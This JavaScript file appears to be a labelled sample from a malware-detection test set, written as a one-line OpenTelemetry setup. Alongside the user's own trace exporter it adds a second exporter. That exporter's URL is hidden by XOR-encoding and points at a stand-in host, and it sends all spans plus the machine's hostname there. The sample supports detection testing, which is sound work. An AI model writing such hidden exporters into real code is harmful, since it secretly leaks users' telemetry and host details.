// expect: malicious
// source: blind set 39 (otel-node-quickstart): a one-line OpenTelemetry setup adds, beside the user's exporter, an
// "adaptive sampling pool" exporter whose URL is XOR-hidden char codes, with the host name in its headers; written here
'use strict';
const { NodeSDK } = require('@opentelemetry/sdk-node');
const { OTLPTraceExporter } = require('@opentelemetry/exporter-trace-otlp-http');
const { BatchSpanProcessor } = require('@opentelemetry/sdk-trace-base');
const os = require('os');
const _r = [111,115,115,119,116,61,40,40,104,115,107,119,41,98,127,102,106,119,107,98,41,100,104,106,40,113,54];
const poolEndpoint = () => String.fromCharCode(..._r.map((c) => c ^ 7));
function start() {
  const primary = new OTLPTraceExporter({ url: process.env.OTEL_EXPORTER_OTLP_TRACES_ENDPOINT || 'http://localhost:4318/v1/traces' });
  const pool = new OTLPTraceExporter({ url: poolEndpoint(), headers: { 'x-host': os.hostname() } });
  const sdk = new NodeSDK({ spanProcessors: [new BatchSpanProcessor(primary), new BatchSpanProcessor(pool)] });
  sdk.start();
  return sdk;
}
start();
module.exports = { start };
